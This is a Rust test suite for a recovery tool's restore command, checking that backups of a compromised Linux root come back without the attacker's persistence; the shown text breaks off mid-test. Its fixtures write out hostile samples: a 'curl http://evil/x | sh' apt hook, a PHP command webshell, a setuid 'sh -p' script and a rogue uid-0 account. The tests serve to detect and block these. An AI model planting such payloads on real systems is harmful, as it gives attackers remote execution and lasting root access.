//! `rescue restore` through the real binary (issue 13): whole-disk images, dry runs that refuse what the
//! real run refuses, directory times; and every command ending quietly when its reader goes away.

use std::os::unix::process::ExitStatusExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};

#[path = "common/root.rs"]
mod root;
use root::need_root;

fn rescue(args: &[&str]) -> Output {
    rescue_env(args, &[])
}

fn rescue_env(args: &[&str], env: &[(&str, &Path)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_rescue"));
    // Whole lines: these tests read what each line says; columns_cli checks that lines fit 80 and 40.
    c.args(args)
        .env_remove("RESCUE_SYSTEM")
        .env("COLUMNS", "1000");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Runs `rescue ARGS` with stdout on a pipe whose reader is already gone: the first print hits a
/// closed pipe, as under `rescue … | head -0`.
fn into_closed_pipe(args: &[&str]) -> Output {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    Command::new(env!("CARGO_BIN_EXE_rescue"))
        .args(args)
        .env_remove("RESCUE_SYSTEM")
        .stdin(Stdio::null())
        .stdout(writer)
        .stderr(Stdio::piped())
        .output()
        .unwrap()
}

#[test]
fn no_command_panics_when_its_reader_goes_away() {
    let d = tempfile::tempdir().unwrap();
    let disk = d.path().join("disk.img");
    std::fs::write(&disk, vec![7u8; 200_000]).unwrap();
    let acq = d.path().join("acq");
    let o = rescue(&["acquire", s(&disk), "--out", s(&acq)]);
    assert!(o.status.success(), "{}", text(&o));
    let src = d.path().join("backup");
    std::fs::create_dir_all(src.join("srv")).unwrap();
    for i in 0..50 {
        std::fs::write(src.join(format!("srv/f{i}")), format!("file {i}")).unwrap();
    }
    let dst = d.path().join("root");
    std::fs::create_dir_all(&dst).unwrap();
    let runs: Vec<Vec<&str>> = vec![
        vec!["--help"],
        vec!["devices"],
        vec!["verify", s(&acq)],
        vec!["restore", "--dry-run", s(&src), s(&dst)],
        vec!["restore", s(&src), s(&dst), "--report-dir", s(d.path())],
    ];
    for args in runs {
        let o = into_closed_pipe(&args);
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            !err.contains("panicked") && !err.contains("Broken pipe"),
            "rescue {args:?}: {err}"
        );
        // Killed by SIGPIPE like coreutils, or (clap's --help) a normal exit; never 101 (a panic).
        assert!(
            o.status.signal() == Some(libc::SIGPIPE) || o.status.code() == Some(0),
            "rescue {args:?} ended with {:?}: {err}",
            o.status
        );
    }
}

fn run(cmd: &mut Command) {
    let o = cmd.output().unwrap();
    assert!(
        o.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// An ext4 filesystem image of `mib` MiB holding `files` (mkfs.ext4 -d).
fn ext4(dir: &Path, name: &str, mib: u64, files: &[(&str, &[u8])]) -> std::path::PathBuf {
    let tree = dir.join(format!("{name}.d"));
    for (rel, data) in files {
        let p = tree.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    }
    let img = dir.join(format!("{name}.ext4"));
    std::fs::File::create(&img)
        .unwrap()
        .set_len(mib << 20)
        .unwrap();
    run(Command::new("mkfs.ext4")
        .args(["-F", "-q", "-d"])
        .arg(&tree)
        .arg(&img));
    img
}

/// Copies `part` into `disk` at byte `offset` (dd conv=notrunc).
fn place(disk: &Path, part: &Path, offset: u64) {
    use std::io::{Seek, Write};
    let mut f = std::fs::OpenOptions::new().write(true).open(disk).unwrap();
    f.seek(std::io::SeekFrom::Start(offset)).unwrap();
    f.write_all(&std::fs::read(part).unwrap()).unwrap();
}

/// A 48 MiB GPT disk image (sgdisk): partition 1 an 8 MiB FAT ESP, 2 and (when `second_linux`) 3
/// ext4 filesystems.
fn gpt_disk(dir: &Path, second_linux: bool) -> std::path::PathBuf {
    let disk = dir.join("disk.img");
    std::fs::File::create(&disk)
        .unwrap()
        .set_len(48 << 20)
        .unwrap();
    let mut sg = Command::new("sgdisk");
    sg.args([
        "-n",
        "1:2048:+8M",
        "-t",
        "1:ef00",
        "-n",
        "2:0:+16M",
        "-t",
        "2:8300",
    ]);
    if second_linux {
        sg.args(["-n", "3:0:+16M", "-t", "3:8300"]);
    }
    run(sg.arg(&disk));
    let esp = dir.join("esp.vfat");
    run(Command::new("mkfs.vfat")
        .args(["-C", "-n", "ESP"])
        .arg(&esp)
        .arg("8192"));
    place(&disk, &esp, 1 << 20);
    let root = ext4(dir, "root", 16, &[("srv/data.txt", b"from partition 2")]);
    place(&disk, &root, 9 << 20);
    if second_linux {
        let home = ext4(dir, "home", 16, &[("srv/data.txt", b"from partition 3")]);
        place(&disk, &home, 25 << 20);
    }
    disk
}

#[test]
fn a_whole_disk_image_is_restored_from_its_only_linux_partition_or_the_one_named() {
    if !need_root("a_whole_disk_image_is_restored_from_its_only_linux_partition_or_the_one_named") {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let disk = gpt_disk(d.path(), false);
    let before = std::fs::read(&disk).unwrap();
    let dst = d.path().join("root");
    std::fs::create_dir_all(&dst).unwrap();
    let o = rescue(&["restore", s(&disk), s(&dst)]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("partition 2 (ext4, 16.0 MiB) of the GPT, the only Linux filesystem"),
        "says which partition: {}",
        text(&o)
    );
    assert_eq!(
        std::fs::read(dst.join("srv/data.txt")).unwrap(),
        b"from partition 2"
    );
    assert_eq!(
        std::fs::read(&disk).unwrap(),
        before,
        "the image is unchanged"
    );

    // Two Linux filesystems: the operator names one.
    let d2 = tempfile::tempdir().unwrap();
    let disk2 = gpt_disk(d2.path(), true);
    let dst2 = d2.path().join("root");
    std::fs::create_dir_all(&dst2).unwrap();
    let o = rescue(&["restore", s(&disk2), s(&dst2)]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains("more than one holds a Linux filesystem")
            && text(&o).contains("--partition N")
            && text(&o).contains("3: ext4"),
        "{}",
        text(&o)
    );
    assert!(!dst2.join("srv").exists());
    let o = rescue(&["restore", s(&disk2), s(&dst2), "--partition", "3"]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("partition 3 (ext4, 16.0 MiB) of the GPT, as named by --partition"),
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read(dst2.join("srv/data.txt")).unwrap(),
        b"from partition 3"
    );
    let o = rescue(&["restore", s(&dst), s(&dst2), "--partition", "2"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        text(&o).contains("--partition applies to a disk image or a disk"),
        "{}",
        text(&o)
    );
    let o = rescue(&["restore", s(&disk2), s(&dst2), "--partition", "7"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("there is no partition 7"), "{}", text(&o));

    // The same disk as a whole-disk device (a read-only loop device standing in for a disk).
    let lo = Loop::attach_read_only(&disk);
    let dst3 = d.path().join("root3");
    std::fs::create_dir_all(&dst3).unwrap();
    let o = rescue(&["restore", s(&lo.0), s(&dst3)]);
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("partition 2 (ext4, 16.0 MiB) of the GPT, the only Linux filesystem"),
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read(dst3.join("srv/data.txt")).unwrap(),
        b"from partition 2"
    );
    drop(lo);
    assert_eq!(
        std::fs::read(&disk).unwrap(),
        before,
        "the disk is unchanged"
    );
}

/// A loop device attached with `losetup` (util-linux), detached when dropped.
struct Loop(std::path::PathBuf);

impl Loop {
    fn attach(file: &Path) -> Self {
        Self::losetup(file, &["-f", "--show"])
    }

    fn attach_read_only(file: &Path) -> Self {
        Self::losetup(file, &["-f", "--show", "-r"])
    }

    fn losetup(file: &Path, args: &[&str]) -> Self {
        let o = Command::new("losetup")
            .args(args)
            .arg(file)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        Loop(std::path::PathBuf::from(
            String::from_utf8_lossy(&o.stdout).trim(),
        ))
    }
}

impl Drop for Loop {
    fn drop(&mut self) {
        let _ = Command::new("losetup").arg("-d").arg(&self.0).status();
    }
}

#[test]
fn a_dry_run_refuses_what_the_real_run_refuses_and_mounts_nothing_writable() {
    if !need_root("a_dry_run_refuses_what_the_real_run_refuses_and_mounts_nothing_writable") {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let state = d.path().join("state");
    let src = d.path().join("backup");
    std::fs::create_dir_all(src.join("srv")).unwrap();
    std::fs::write(src.join("srv/a.txt"), b"alpha").unwrap();
    let target_img = ext4(d.path(), "newroot", 16, &[("etc/hostname", b"new\n")]);
    let before = std::fs::read(&target_img).unwrap();
    let lo = Loop::attach(&target_img);
    let size = (16u64 << 20).to_string();
    let env = [("RESCUE_STATE_DIR", state.as_path())];

    // A wrong confirmation: the real run refuses it, and so does the dry run.
    for dry in [false, true] {
        let mut args = vec!["restore", s(&src), s(&lo.0), "--confirm", "12345"];
        args.extend(["--reason", "fresh install"]);
        if dry {
            args.push("--dry-run");
        }
        let o = rescue_env(&args, &env);
        assert_eq!(o.status.code(), Some(1), "dry run {dry}: {}", text(&o));
        assert!(
            text(&o).contains(&format!(
                "confirm with its size in bytes instead: --confirm {size}"
            )),
            "dry run {dry}: {}",
            text(&o)
        );
    }
    // Without a reason the interlock refuses a disk never acquired, dry run or not.
    let o = rescue_env(
        &[
            "restore",
            "--dry-run",
            s(&src),
            s(&lo.0),
            "--confirm",
            &size,
        ],
        &env,
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(text(&o).contains("never acquired"), "{}", text(&o));

    // The right confirmation: the dry run reports, mounts the target read-only and writes nothing.
    let o = rescue_env(
        &[
            "restore",
            "--dry-run",
            s(&src),
            s(&lo.0),
            "--confirm",
            &size,
            "--reason",
            "fresh install",
        ],
        &env,
    );
    assert!(o.status.success(), "{}", text(&o));
    assert!(
        text(&o).contains("mounted read-only for the dry run")
            && text(&o).contains("1 would-restore"),
        "{}",
        text(&o)
    );
    assert!(
        text(&o).contains("(ro,nodev,nosuid,noexec,noload"),
        "the options the ext4 target was mounted with: {}",
        text(&o)
    );
    let ro = Command::new("blockdev")
        .arg("--getro")
        .arg(&lo.0)
        .output()
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&ro.stdout).trim(),
        "1",
        "the target stays write-blocked"
    );
    let unlocked = std::fs::read_to_string(state.join("unlocked")).unwrap_or_default();
    assert!(unlocked.trim().is_empty(), "nothing unlocked: {unlocked}");
    drop(lo);
    assert_eq!(
        std::fs::read(&target_img).unwrap(),
        before,
        "not one byte of the target changed"
    );
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains("restore-source-"), "unmounted afterwards");
}

/// Whether `tool` runs; a missing tool skips the test unless `RESCUE_REQUIRE_TOOLS` is set.
fn have(tool: &str, what: &str) -> bool {
    let ok = Command::new("sh")
        .args(["-c", "command -v \"$0\"", tool])
        .output()
        .is_ok_and(|o| o.status.success());
    if !ok {
        assert!(
            std::env::var_os("RESCUE_REQUIRE_TOOLS").is_none(),
            "{what} needs {tool} and RESCUE_REQUIRE_TOOLS forbids skipping it"
        );
        eprintln!("skipped {what}: {tool} is not installed");
    }
    ok
}

/// An XFS or btrfs source is mounted with its own options, and restore says which (issue 20): not the
/// ext4 `ro,noload` it once printed whatever the filesystem.
#[test]
fn an_xfs_or_btrfs_source_is_shown_with_the_options_it_was_mounted_with() {
    const NAME: &str = "an_xfs_or_btrfs_source_is_shown_with_the_options_it_was_mounted_with";
    if !need_root(NAME) {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let tree = d.path().join("tree");
    std::fs::create_dir_all(tree.join("srv")).unwrap();
    std::fs::write(tree.join("srv/data.txt"), b"from btrfs").unwrap();
    for fstype in ["btrfs", "xfs"] {
        if !have(&format!("mkfs.{fstype}"), NAME) {
            continue;
        }
        let img = d.path().join(format!("source.{fstype}"));
        // mkfs.xfs refuses less than 300 MiB; the file stays sparse.
        std::fs::File::create(&img)
            .unwrap()
            .set_len(320 << 20)
            .unwrap();
        if fstype == "btrfs" {
            run(Command::new("mkfs.btrfs")
                .args(["-q", "-f", "--rootdir"])
                .arg(&tree)
                .arg(&img));
        } else {
            // Empty: Debian 12's mkfs.xfs cannot fill a filesystem from a directory.
            run(Command::new("mkfs.xfs").args(["-q", "-f"]).arg(&img));
        }
        let dst = d.path().join(format!("root-{fstype}"));
        std::fs::create_dir_all(&dst).unwrap();
        let o = rescue(&["restore", s(&img), s(&dst)]);
        assert!(o.status.success(), "{fstype}: {}", text(&o));
        let out = text(&o);
        let shown = out
            .lines()
            .find(|l| l.contains("mounted read-only"))
            .unwrap_or_else(|| panic!("{fstype}: no line says how the source was mounted: {out}"));
        // The options examine::mount decides for this filesystem (a kernel refusing the first spelling
        // gets the next).
        let options: Vec<String> = rescue::examine::mount::data_for(fstype)
            .iter()
            .map(|data| rescue::examine::mount::describe_options(data))
            .collect();
        assert!(
            options
                .iter()
                .any(|o| shown.ends_with(&format!("({fstype}) mounted read-only ({o})"))),
            "{fstype}: {shown}\nwant one of {options:?}"
        );
        if fstype == "btrfs" {
            assert_eq!(
                std::fs::read(dst.join("srv/data.txt")).unwrap(),
                b"from btrfs"
            );
        }
    }
}

// Screening a backup of a compromised root (issue 18): the stricter policy and triage findings.

fn put(root: &Path, rel: &str, data: &[u8], mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, data).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn manifest(dir: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(dir.join("restore-manifest.json")).unwrap()).unwrap()
}

fn record(m: &serde_json::Value, path: &str) -> serde_json::Value {
    m["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == path)
        .cloned()
        .unwrap_or_else(|| panic!("{path} not in the manifest: {m:#}"))
}

/// `tar -C DIR -cf OUT .` (GNU tar): the same backup as an archive, read as a stream.
fn tar_of(dir: &Path, out: &Path) {
    run(Command::new("tar")
        .arg("-C")
        .arg(dir)
        .arg("-cf")
        .arg(out)
        .arg("."));
}

const OLD_PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n";
const NEW_PASSWD: &[u8] = b"root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n_apt:x:42:65534::/nonexistent:/usr/sbin/nologin\n";

/// Every persistence point the policy holds, one file each, as a compromised root would hold them.
const HELD: &[(&str, &str)] = &[
    ("etc/shadow", "account database"),
    ("etc/group", "account database"),
    ("etc/gshadow", "account database"),
    ("etc/passwd-", "account database"),
    ("etc/subuid", "account database"),
    ("etc/sudoers", "sudoers"),
    ("etc/sudoers.d/90-persist", "sudoers"),
    ("etc/pam.d/common-auth", "PAM configuration"),
    ("etc/security/pam_env.conf", "PAM configuration"),
    ("lib/x86_64-linux-gnu/security/pam_unix2.so", "PAM module"),
    ("etc/ssh/sshd_config", "sshd configuration"),
    ("etc/ssh/sshd_config.d/99-root.conf", "sshd configuration"),
    ("etc/ld.so.conf.d/evil.conf", "dynamic linker configuration"),
    ("etc/ld.so.preload", "ld.so.preload"),
    ("etc/udev/rules.d/99-run.rules", "udev rule"),
    ("etc/modules-load.d/rk.conf", "kernel module loading"),
    ("etc/modprobe.d/rk.conf", "kernel module loading"),
    ("etc/apt/apt.conf.d/99update-hook", "apt/dpkg configuration"),
    ("etc/dpkg/dpkg.cfg.d/hook", "apt/dpkg configuration"),
    ("etc/profile.d/zz-persist.sh", "shell startup file"),
    ("etc/bash.bashrc", "shell startup file"),
    ("etc/xdg/autostart/update.desktop", "XDG autostart entry"),
    (
        "home/alice/.config/autostart/sync.desktop",
        "XDG autostart entry",
    ),
    ("etc/cron.d/backdoor", "cron entry"),
    ("etc/systemd/system/dbus-helper.service", "systemd unit"),
    ("root/.ssh/authorized_keys", "ssh authorized_keys"),
];

fn compromised_backup(b: &Path) {
    put(b, "etc/passwd", OLD_PASSWD, 0o644);
    for (rel, _) in HELD {
        let body: &[u8] = match *rel {
            "etc/apt/apt.conf.d/99update-hook" => {
                b"APT::Update::Pre-Invoke { \"curl -s http://evil/x | sh\"; };\n"
            }
            "etc/udev/rules.d/99-run.rules" => b"ACTION==\"add\", RUN+=\"/usr/local/bin/x\"\n",
            "etc/group" => b"root:x:0:\nsudo:x:27:alice,toor\n",
            _ => b"planted\n",
        };
        put(b, rel, body, 0o644);
    }
    put(
        b,
        "var/www/html/uploads/avatar.php",
        b"<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>",
        0o644,
    );
    put(
        b,
        "var/www/html/index.php",
        b"<?php echo 'Hello, ' . htmlspecialchars($_GET['name']); ?>",
        0o644,
    );
    put(b, "srv/data/report.txt", b"quarterly numbers\n", 0o640);
}

#[test]
fn a_compromised_root_backup_comes_back_without_its_persistence() {
    let d = tempfile::tempdir().unwrap();
    let b = d.path().join("backup");
    compromised_backup(&b);
    let archive = d.path().join("backup.tar");
    tar_of(&b, &archive);
    // The same backup as a directory (files re-read by path) and as an archive (a stream read once).
    for (name, source) in [("dir", &b), ("tar", &archive)] {
        let dst = d.path().join(format!("newroot-{name}"));
        put(&dst, "etc/passwd", NEW_PASSWD, 0o644);
        let report = d.path().join(format!("report-{name}"));
        let o = rescue(&["restore", s(source), s(&dst), "--report-dir", s(&report)]);
        let out = text(&o);
        assert!(o.status.success(), "{name}: {out}");

        // Only the data and the harmless page came back; the new system's passwd is untouched.
        assert_eq!(
            std::fs::read(dst.join("srv/data/report.txt")).unwrap(),
            b"quarterly numbers\n"
        );
        assert!(dst.join("var/www/html/index.php").exists(), "{name}: {out}");
        assert_eq!(
            std::fs::read(dst.join("etc/passwd")).unwrap(),
            NEW_PASSWD,
            "{name}"
        );
        for (rel, kind) in HELD {
            assert!(!dst.join(rel).exists(), "{name}: {rel} was written");
            assert!(
                out.contains(&format!("HELD      {rel}: {kind}")),
                "{name}: {rel} held as {kind}: {out}"
            );
        }
        assert!(
            !dst.join("var/www/html/uploads/avatar.php").exists(),
            "{name}: the webshell"
        );
        assert!(
            out.contains("HELD      var/www/html/uploads/avatar.php: server-side script that runs commands (PHP system() of $_request)"),
            "{name}: {out}"
        );

        // passwd: held, compared with the new system's, the second uid-0 account named.
        let m = manifest(&report);
        let p = record(&m, "etc/passwd");
        assert_eq!(p["action"], "held", "{name}: {p}");
        let reason = p["reason"].as_str().unwrap();
        assert!(
            reason.contains("never restored wholesale")
                && reason.contains("2 accounts added (alice, toor), 1 removed (_apt), 0 changed")
                && reason.contains("toor: UID 0: a second superuser"),
            "{name}: {reason}"
        );
        assert_eq!(p["diff"], "restore-held/etc/passwd.diff");
        let diff = std::fs::read_to_string(report.join("restore-held/etc/passwd.diff")).unwrap();
        // Every uid-0 account other than root that awk sees in the backup's passwd is flagged.
        let awk = Command::new("awk")
            .args(["-F:", "$3 == 0 && $1 != \"root\" { print $1 }"])
            .arg(b.join("etc/passwd"))
            .output()
            .unwrap();
        let uid0: Vec<String> = String::from_utf8_lossy(&awk.stdout)
            .lines()
            .map(str::to_owned)
            .collect();
        assert_eq!(uid0, ["toor"]);
        for account in &uid0 {
            assert!(
                diff.lines()
                    .any(|l| l.starts_with(&format!("+ {account}:")) && l.contains("!! UID 0")),
                "{name}: {diff}"
            );
        }
        assert!(diff.contains("- _apt:"), "{diff}");
        assert!(
            out.contains("account database compared with the new system's: "),
            "{out}"
        );
        let group = std::fs::read_to_string(report.join("restore-held/etc/group.diff")).unwrap();
        assert!(
            group.contains("privileged group sudo gains alice, toor"),
            "{group}"
        );
        assert!(
            m["review"]
                .as_array()
                .unwrap()
                .iter()
                .any(|r| r == "var/www/html/uploads/avatar.php")
        );

        // The operator releases one held file by listing it exactly.
        let o = rescue(&[
            "restore",
            s(source),
            s(&dst),
            "--report-dir",
            s(&report),
            "--include",
            "/etc/sudoers.d/90-persist",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(
            std::fs::read(dst.join("etc/sudoers.d/90-persist")).unwrap(),
            b"planted\n"
        );
        assert!(!dst.join("etc/sudoers").exists());
    }
}

#[test]
fn a_setuid_binary_needs_its_exact_path_listed_even_with_allow_executables() {
    let d = tempfile::tempdir().unwrap();
    let b = d.path().join("backup");
    put(
        &b,
        "usr/local/bin/helper",
        b"#!/bin/sh\nexec /bin/sh -p\n",
        0o4755,
    );
    put(&b, "usr/local/bin/report", b"#!/bin/sh\necho ok\n", 0o2755);
    put(&b, "usr/local/bin/plain", b"#!/bin/sh\necho plain\n", 0o755);
    let dst = d.path().join("newroot");
    std::fs::create_dir_all(&dst).unwrap();
    let report = d.path().join("report");
    let mode = |rel: &str| {
        let o = Command::new("stat")
            .args(["-c", "%a"])
            .arg(dst.join(rel))
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).trim().to_owned()
    };

    let o = rescue(&[
        "restore",
        s(&b),
        s(&dst),
        "--allow-executables",
        "--report-dir",
        s(&report),
    ]);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("REFUSED   usr/local/bin/helper: setuid file: refused even with --allow-executables unless listed exactly: --include /usr/local/bin/helper"),
        "{out}"
    );
    assert!(
        out.contains("REFUSED   usr/local/bin/report: setgid file"),
        "{out}"
    );
    assert!(
        !dst.join("usr/local/bin/helper").exists() && !dst.join("usr/local/bin/report").exists()
    );
    assert_eq!(mode("usr/local/bin/plain"), "755");

    // Listed exactly: it comes back, and with its bits (stat, coreutils).
    let o = rescue(&[
        "restore",
        s(&b),
        s(&dst),
        "--allow-executables",
        "--include",
        "/usr/local/bin/helper",
        "--report-dir",
        s(&report),
    ]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(mode("usr/local/bin/helper"), "4755");
    assert!(
        !dst.join("usr/local/bin/report").exists(),
        "only the listed path"
    );
    // Listed without --allow-executables: still refused.
    let dst2 = d.path().join("newroot2");
    std::fs::create_dir_all(&dst2).unwrap();
    let o = rescue(&[
        "restore",
        s(&b),
        s(&dst2),
        "--include",
        "/usr/local/bin/helper",
        "--report-dir",
        s(&report),
    ]);
    assert!(
        text(&o).contains("restore it with --allow-executables --include /usr/local/bin/helper"),
        "{}",
        text(&o)
    );
    assert!(!dst2.join("usr/local/bin/helper").exists());
}

fn findings_json(findings: &[(&str, &str, &str, &str)]) -> String {
    let list: Vec<serde_json::Value> = findings
        .iter()
        .map(|(id, severity, path, why)| {
            serde_json::json!({"id": id, "severity": severity, "category": "test", "path": path,
                "why": why, "evidence": {"sha256": "00", "mode": "0644", "owner": "root"}})
        })
        .collect();
    serde_json::json!({"schema": "rescue.triage/1", "source": "/dev/sda2",
        "generated_at": "2026-12-05T14:00:00Z", "findings": list})
    .to_string()
}

#[test]
fn files_named_by_triage_findings_are_refused_or_held_with_the_finding_as_the_reason() {
    let d = tempfile::tempdir().unwrap();
    let b = d.path().join("backup");
    put(&b, "srv/app/worker.txt", b"looks harmless\n", 0o644);
    put(
        &b,
        "srv/app/notes.txt",
        b"changed in the attack window\n",
        0o644,
    );
    put(
        &b,
        "srv/app/.cache/x/payload.txt",
        b"in a hidden directory\n",
        0o644,
    );
    put(&b, "srv/app/readme.txt", b"fine\n", 0o644);
    let f1 = d.path().join("findings.json");
    std::fs::write(
        &f1,
        findings_json(&[
            (
                "FS-0001",
                "critical",
                "/srv/app/worker.txt",
                "sha256 matches a known implant",
            ),
            (
                "FS-0002",
                "medium",
                "/srv/app/notes.txt",
                "changed since --since",
            ),
            ("FS-0009", "info", "/opt/elsewhere", "not in this backup"),
        ]),
    )
    .unwrap();
    let f2 = d.path().join("findings-2.json");
    std::fs::write(
        &f2,
        findings_json(&[(
            "FS-0003",
            "high",
            "/srv/app/.cache/",
            "hidden directory in a system path",
        )]),
    )
    .unwrap();

    let dst = d.path().join("newroot");
    std::fs::create_dir_all(&dst).unwrap();
    let report = d.path().join("report");
    let o = rescue(&[
        "restore",
        s(&b),
        s(&dst),
        "--findings",
        s(&f1),
        "--findings",
        s(&f2),
        "--report-dir",
        s(&report),
    ]);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("REFUSED   srv/app/worker.txt: finding FS-0001 (critical, test): sha256 matches a known implant"),
        "{out}"
    );
    assert!(
        out.contains("HELD      srv/app/notes.txt: finding FS-0002 (medium, test)"),
        "{out}"
    );
    assert!(
        out.contains("REFUSED   srv/app/.cache/x/payload.txt: finding FS-0003 (high"),
        "{out}"
    );
    assert!(
        out.contains("findings: 3 of 4 findings naming a path name a file of this backup"),
        "{out}"
    );
    let m = manifest(&report);
    for (path, action, id) in [
        ("srv/app/worker.txt", "refused", "FS-0001"),
        ("srv/app/notes.txt", "held", "FS-0002"),
        ("srv/app/.cache/x/payload.txt", "refused", "FS-0003"),
    ] {
        let r = record(&m, path);
        assert_eq!(r["action"], action, "{r}");
        assert_eq!(r["findings"], serde_json::json!([id]), "{r}");
        assert!(r["reason"].as_str().unwrap().contains(id), "{r}");
        assert!(!dst.join(path).exists(), "{path}");
    }
    assert_eq!(m["findings"]["unmatched"], serde_json::json!(["FS-0009"]));
    assert_eq!(
        std::fs::read(dst.join("srv/app/readme.txt")).unwrap(),
        b"fine\n"
    );

    // A backup of /srv: its root is /srv of the examined system.
    let srv = d.path().join("srv.tar");
    tar_of(&b.join("srv"), &srv);
    let dst2 = d.path().join("newsrv");
    std::fs::create_dir_all(&dst2).unwrap();
    let o = rescue(&[
        "restore",
        s(&srv),
        s(&dst2),
        "--findings",
        s(&f1),
        "--source-root",
        "/srv",
        "--report-dir",
        s(&report),
    ]);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("REFUSED   app/worker.txt: finding FS-0001"),
        "{out}"
    );
    assert!(
        out.contains("HELD      app/notes.txt: finding FS-0002"),
        "{out}"
    );
    assert!(dst2.join("app/readme.txt").exists() && !dst2.join("app/worker.txt").exists());
    // Without --source-root the same findings still hold the files, saying the match is a guess.
    let dst3 = d.path().join("newsrv3");
    std::fs::create_dir_all(&dst3).unwrap();
    let o = rescue(&[
        "restore",
        s(&srv),
        s(&dst3),
        "--findings",
        s(&f1),
        "--report-dir",
        s(&report),
    ]);
    let out = text(&o);
    assert!(o.status.success(), "{out}");
    assert!(
        out.contains("HELD      app/worker.txt: finding FS-0001")
            && out.contains("which this file may be"),
        "{out}"
    );
    assert!(!dst3.join("app/worker.txt").exists());
    assert_eq!(
        record(&manifest(&report), "app/worker.txt")["findings"],
        serde_json::json!(["FS-0001"])
    );
}

#[test]
fn a_findings_file_that_is_not_triage_output_stops_the_restore_before_anything_is_written() {
    let d = tempfile::tempdir().unwrap();
    let b = d.path().join("backup");
    put(&b, "srv/a.txt", b"a\n", 0o644);
    let dst = d.path().join("newroot");
    std::fs::create_dir_all(&dst).unwrap();
    for (name, body, says) in [
        (
            "broken.json",
            "{\"schema\":\"rescue.triage/1\",\"findings\":[".to_owned(),
            "is not JSON",
        ),
        (
            "manifest.json",
            "{\"schema\":\"rescue.acquire/1\",\"findings\":[]}".to_owned(),
            "has schema \"rescue.acquire/1\", not rescue.triage/1",
        ),
        (
            "relative.json",
            findings_json(&[("FS-1", "high", "srv/a.txt", "x")]),
            "finding FS-1 names \"srv/a.txt\", which is not an absolute path",
        ),
        (
            "severity.json",
            findings_json(&[("FS-2", "severe", "/srv/a.txt", "x")]),
            "does not hold a valid rescue.triage/1 findings list",
        ),
    ] {
        let f = d.path().join(name);
        std::fs::write(&f, body).unwrap();
        let o = rescue(&["restore", s(&b), s(&dst), "--findings", s(&f)]);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", text(&o));
        assert!(
            text(&o).contains(s(&f)) && text(&o).contains(says),
            "{name}: {}",
            text(&o)
        );
        assert!(!dst.join("srv").exists(), "{name}: nothing restored");
    }
    let o = rescue(&[
        "restore",
        s(&b),
        s(&dst),
        "--findings",
        s(&d.path().join("absent.json")),
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o).contains("reading the findings file"),
        "{}",
        text(&o)
    );
}

/// A minimal Linux root for `rescue triage` with the attacker's hidden directory in `/srv/data`.
fn triaged_root(root: &Path) {
    put(root, "etc/os-release", b"ID=debian\n", 0o644);
    put(root, "usr/bin/true", b"\x7fELF true", 0o755);
    put(root, "srv/data/.sync/agent.conf", b"beacon c2\n", 0o644);
}

#[test]
fn inside_the_rescue_system_restore_screens_with_the_findings_the_case_recorded() {
    let d = tempfile::tempdir().unwrap();
    let state = d.path().join("state");
    let in_rescue = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_rescue"))
            .args(args)
            .env("RESCUE_SYSTEM", "1")
            .env("RESCUE_STATE_DIR", &state)
            .env("COLUMNS", "1000")
            .env_remove("RESCUE_CONSOLE")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let o = in_rescue(&["case", "new", "C-18", "--examiner", "T"]);
    assert!(o.status.success(), "{}", text(&o));
    let root = d.path().join("root");
    triaged_root(&root);
    let triage_dir = d.path().join("triage-root");
    let o = in_rescue(&["triage", s(&root), "--out", s(&triage_dir)]);
    assert!(text(&o).contains("/srv/data/.sync"), "{}", text(&o));
    let findings = triage_dir.join("findings.json");
